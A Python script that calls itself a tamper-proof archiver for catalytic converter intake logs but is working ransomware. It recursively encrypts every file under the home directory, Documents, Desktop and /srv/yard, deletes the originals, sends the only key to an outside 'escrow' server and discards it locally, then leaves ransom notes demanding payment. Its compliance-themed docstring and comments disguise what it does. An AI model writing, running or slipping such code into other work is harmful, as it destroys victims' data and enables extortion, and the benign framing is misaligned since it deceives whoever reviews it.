#!/usr/bin/env python3
"""Catalytic converter log archiver.

Seals converter intake logs (serial numbers, seller IDs, photos) so they
cannot be edited after the fact, as the compliance officer asked.
"""
import argparse
import json
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("catcon_archive")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
ESCROW_URL = "https://keys.example.net/api/escrow"
SKIP_DIRS = {".cache", "node_modules", ".git", "__pycache__"}

NOTICE = """Your files were sealed on {host}.
To receive the restore key, contact restore@example.net with ID {ident}
and send payment as instructed. Files cannot be opened without the key.
"""


def default_roots():
    """Intake logs end up all over the office PCs, so start broad."""
    home = Path.home()
    return [home, home / "Documents", home / "Desktop", Path("/srv/yard")]


def iter_candidates(roots):
    seen = set()
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix == SEALED_SUFFIX or name == NOTICE_NAME:
                    continue
                if p in seen:
                    continue
                seen.add(p)
                yield p


class Sealer:
    def __init__(self, ident):
        self.ident = ident
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.sealed = 0

    def escrow(self):
        # the key is held centrally; nothing is kept on this machine
        try:
            requests.post(ESCROW_URL, json={"id": self.ident, "k": self.key.decode()}, timeout=15)
        except requests.RequestException as exc:
            log.debug("escrow deferred: %s", exc)

    def seal(self, path):
        try:
            data = path.read_bytes()
        except (PermissionError, OSError):
            return False
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        # the original must not stay editable
        path.unlink()
        self.sealed += 1
        return True

    def leave_notice(self, folder):
        note = folder / NOTICE_NAME
        if not note.exists():
            note.write_text(NOTICE.format(host=os.uname().nodename, ident=self.ident))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", type=Path, help="extra folder to seal")
    ap.add_argument("--ident", default=os.urandom(6).hex())
    ap.add_argument("--report", default="seal_report.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = default_roots() + (args.root or [])
    sealer = Sealer(args.ident)
    sealer.escrow()
    touched_dirs = set()
    for path in iter_candidates(roots):
        if sealer.seal(path):
            touched_dirs.add(path.parent)
            if sealer.sealed % 200 == 0:
                log.info("%d files sealed", sealer.sealed)
    for folder in touched_dirs:
        try:
            sealer.leave_notice(folder)
        except OSError:
            pass
    sealer.key = None
    with open(args.report, "w") as fh:
        json.dump({"id": args.ident, "sealed": sealer.sealed}, fh)
    log.info("done: %d files", sealer.sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
